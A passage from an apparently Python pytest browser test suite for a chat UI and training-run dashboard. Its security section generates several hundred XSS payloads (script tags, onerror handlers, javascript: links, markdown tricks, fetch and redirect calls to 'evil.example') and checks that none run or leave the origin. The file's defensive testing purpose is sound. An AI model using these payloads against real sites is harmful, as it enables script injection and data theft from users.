    press(page, "document", key="Escape")
    assert page.evaluate("document.activeElement.id") == "menu" and not page.evaluate("at('body').inert")


# -----------------------------------------------------------------------------
# Nothing that is said is run


EFFECTS = (
    "alert(1)",
    "window.ran=1",
    "fetch('//evil.example/x')",
    "document.title='ran'",
    "top.location='//evil.example'",
)
CARRIERS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<details open ontoggle={}>x</details>",
    "<math><mtext><img src=x onerror={}></math>", "<style>@import '//evil.example/{}'</style>", "<body onpageshow={}>",
    "<base href=//evil.example/><img src={}>", "<form action=javascript:{}><button>x", "<input autofocus onfocus={}>",
    "<template><img src=x onerror={}></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<link rel=stylesheet href=//evil.example/{}>", "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "[x](javascript:{})", "![x](//evil.example/{})", "[x]: javascript:{}\n\n[x]", "<javascript:{}>",
    "![x](data:text/html,<script>{}</script>)", "[x](&#106;avascript:{})", "<!--><img src=x onerror={}>-->",
    "<a href=javascript:{}>x</a>", "[x](<java\nscript:{}>)", "<object data=javascript:{}>",
)  # fmt: skip
WRAPPERS = ("{}", "```html\n{}\n```", "- **{}", "| a |\n| - |\n| {} |", "`\ufffc{}", "> # {}", "\"'>{}", "&lt;{}&gt;")


def payloads() -> list[str]:
    """Every effect in every carrier, the wrappers in turn, and every wrapper on a script and an image."""
    every = [carrier.format(effect) for carrier in CARRIERS for effect in EFFECTS]
    wrapped = [WRAPPERS[i % len(WRAPPERS)].format(text) for i, text in enumerate(every)]
    return wrapped + [
        wrapper.format(carrier.format(effect)) for wrapper in WRAPPERS for carrier in CARRIERS[:2] for effect in EFFECTS
    ]


def unharmed(page: Tab, port: int, tried: bool = False) -> None:
    """Nothing ran, nothing left the origin, and nothing even tried what the policy refuses."""
    assert page.evaluate("!window.ran && !document.title.includes('ran') && location.port") == str(port)
    sent = [
        e["params"]["request"]["url"] for e in page.browser.events if e.get("method") == "Network.requestWillBeSent"
    ]
    assert sent and [url for url in sent if not url.startswith((f"http://127.0.0.1:{port}/", "data:image/svg"))] == []
    assert not [e for e in page.browser.events if e.get("method") == "Page.javascriptDialogOpening"]
    assert tried or page.complaints() == []


@pytest.mark.parametrize("share", [8, pytest.param(1, marks=pytest.mark.soak)])
def test_no_payload_runs_or_leaves_the_origin(browser: Chromium, base_dir: Path, share: int) -> None:
    """Each is question, reply, token by token and as Markdown, and the chat's title; an eighth of them, or all."""
    chosen = payloads()[::share]
    assert len(payloads()) > 200
    engine = FakeEngine([])
    with serving(engine) as live, opened(browser, live) as page:
        dangerous = "script, img, iframe, style, object, link, meta, base, form, input, template"
        for text in chosen:
            answer(page, engine, text, text)
            assert not texts(page, f"#log :is({dangerous})")
            hrefs = page.evaluate("[...log.querySelectorAll('a')].map(a => a.href)")
            assert all(href.startswith(("http:", "https:", "mailto:")) for href in hrefs), hrefs
            page.evaluate("startNew()")
            until(page, "!chat.turns.length")
        unharmed(page, live.port)


def test_nothing_dangerous_gets_through_even_from_the_renderer(page: Tab, live: Live) -> None:
    """The page checks the server's HTML as if there were no policy behind it."""
    for text in payloads():
        left = page.evaluate(
            f"(c => [...c.querySelectorAll('*')].map(e => e.outerHTML).join('\\n'))(cleaned({json.dumps(text)}))"
        )
        assert not re.search(
            r"<(script|img|svg|iframe|style|object|link|meta|base|form|input|math|body)|\\bon\\w+=|javascript:", left
        ), (text, left)
    unharmed(page, live.port, tried=True)  # the parser asks the policy about what is thrown away


def test_records_run_nothing(page: Tab, live: Live, base_dir: Path) -> None:
    bad = "<img src=x onerror=window.ran=1>"
    for _ in range(2):
        record = open_record("base", bad, {"model_tag": bad})
        record.write("plan", first_step=0, num_steps=2, formula=bad, batch=bad, parameters=1)
        record.write("step", step=0, loss=1.0, smooth_loss=1.0, grad_norm=1.0, tokens=1, seconds=1.0)
        record.write("sample", step=1, prompt=bad, text=bad)
        record.close()
    page.evaluate("location.hash = '#runs'; 0")
    until(page, "document.querySelector('#runs svg')")
    page.evaluate("report.open = true; document.querySelectorAll('#runlist input')[1].click(); 0")
    until(
        page,
        f"report.querySelector('h1') && document.querySelector('figure p').textContent.includes({json.dumps(bad)})",
    )
    (base_dir / "records" / f"base-{bad}-1.jsonl").write_text("[]\n{}\n")
    until(page, f"document.querySelector('#runs .error')?.textContent.includes({json.dumps(bad)})")
    assert page.evaluate("document.querySelectorAll('#runs img, #list img, #note img').length") == 0
    unharmed(page, live.port)


# -----------------------------------------------------------------------------
# Runs


def write_run(tag: str, steps: int, stage: str = "base", first: int = 0) -> Any:
    record = open_record(stage, tag, {"depth": 2})
    record.write("plan", first_step=first, num_steps=40, formula="20 steps", batch="one row", parameters=1234)
    for step in range(first, steps):
        figures = {"loss": 5 - step / 10, "smooth_loss": 5 - step / 10, "grad_norm": 1.0, "tokens": 256, "seconds": 0.5}
        record.write("step", step=step, **figures)
    return record


def test_runs_are_drawn_and_grow_while_a_training_goes_on(page: Tab, base_dir: Path, tmp_path: Path) -> None:
    page.evaluate("location.hash = '#runs'; 0")
    until(page, "document.querySelector('#runs').textContent.includes('bash dev/runcpu.sh')")
    write_run("older", 10).close()
    record = write_run("newer", 20)
    record.write("eval", step=20, val_bpb_quick=1.5)
    record.write("sample", step=20, prompt="Once", text="upon a time")
    until(page, "document.querySelectorAll('#runs figure').length >= 4")
    assert (
        texts(page, "#runlist b") == ["base newer", "base older"] and texts(page, "#runs .card h2")[0] == "base newer"
    )
    assert {"Base: loss", "Base: validation", "Base: speed"} <= set(texts(page, "figcaption"))
    assert "20 of 40 steps" in texts(page, ".card p") and "512" in texts(page, ".numbers dd")
    assert "Once upon a time" in texts(page, "#runs li p")
    record.write("step", step=20, loss=1.25, smooth_loss=1.25, grad_norm=1.0, tokens=256, seconds=0.5)
    until(page, "document.querySelector('#runs').textContent.includes('21 of 40 steps')")
    record.write("end", tokens_per_second=512)
    record.close()
    until(page, "document.querySelector('.age').textContent.startsWith('Finished')")
    page.evaluate("document.querySelectorAll('#runlist input')[1].click(); 0")
    until(page, "document.querySelectorAll('.card h2').length === 3")  # two cards, and the samples
    assert page.evaluate("document.querySelector('figure > svg').querySelectorAll('.line').length") == 2
    page.evaluate("report.open = true; 0")
    until(page, "report.querySelector('table')")
    assert page.complaints() == []
    page.picture(tmp_path / "runs.png")


def test_values_under_the_pointer_are_told(page: Tab, base_dir: Path) -> None:
    write_run("one", 20).close()
    page.evaluate("location.hash = '#runs'; 0")
    until(page, "document.querySelector('figure svg')")
    place = "(r => [r.left + r.width / 2, r.top + r.height / 2])"
    x, y = page.evaluate(f"{place}(document.querySelector('figure svg').getBoundingClientRect())")
    page.call("Input.dispatchMouseEvent", type="mouseMoved", x=x, y=y)
    until(page, "document.querySelector('figure p').textContent.startsWith('at 9')")


# -----------------------------------------------------------------------------
# Soak


def axe() -> str | None:
    """The text of axe.min.js, which is not part of this repository."""
    folders = [Path.cwd(), Path.home()]
    places = [Path(os.environ["AXE_JS"])] if "AXE_JS" in os.environ else []
    places += [folder / "node_modules" / "axe-core" / "axe.min.js" for folder in folders]
    return next((place.read_text(encoding="utf-8") for place in places if place.exists()), None)


@pytest.mark.soak
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1200])
def test_axe_finds_nothing_serious(page: Tab, engine: FakeEngine, base_dir: Path, width: int, scheme: str) -> None:
    script = axe()
    if script is None:
        pytest.skip("no axe.min.js in $AXE_JS or node_modules; npm install axe-core")
    page.resize(width, 760, scheme)
    page.evaluate(f"{script}; 0")

    def check(state: str) -> None:
        told = "[v.id, v.impact, v.nodes.map(n => n.html.slice(0, 120) + ' ' + n.failureSummary.slice(0, 300))]"
        found = page.evaluate(f"axe.run().then(result => result.violations.map(v => {told}))")
        assert not [v for v in found if v[1] in ("serious", "critical")], (state, found)

    check("empty")
    say(page, "Hello")
    check("waiting")
    engine.allow(2)
    until(page, "log.textContent.endsWith('ab')")
    check("streaming")
    idle(page, engine)
    call = ("<|python_start|>", "12*3", "<|python_end|>", "<|output_start|>", "36", "<|output_end|>")
    engine.tokens = tokens_of(
        "It is ",
        *call,
        "\n\n# T\n\n```python\nif x: # c\n  f('s', 1)\n```\n\n| a |\n| - |\n| 1 |\n\n[l](https://x.y) `c`",
        END,
    )
    answer(page, engine, "مرحبا")
    page.evaluate("log.querySelector('.tool').open = true; 0")
    check("finished")
    click(page, "Edit and send again")
    check("editing")
    page.evaluate("endEdit(); 0")
    engine.error, engine.tokens = ValueError("told by a test"), tokens_of("ab")
    say(page, "Fail")
    idle(page, engine)
    check("error")
    page.evaluate(f"openSide({json.dumps(width < 500)}); document.querySelector('#list details').open = true; 0")
    check("list")
    page.evaluate("openSide(false); openSettings(); 0")
    check("settings")
    page.evaluate("at('settings').close(); at('locked').showModal(); 0")
    check("token")
    page.evaluate("at('locked').close(); 0")
    write_run("one", 20).close()
    write_run("two", 20).close()
    page.evaluate("location.hash = '#runs'; 0")
    until(page, "document.querySelector('#runs figure')")
    page.evaluate("document.querySelectorAll('#runlist input')[1].click(); report.open = true; 0")
    until(page, "report.querySelector('table') && document.querySelectorAll('.card h2').length === 3")
    check("runs")
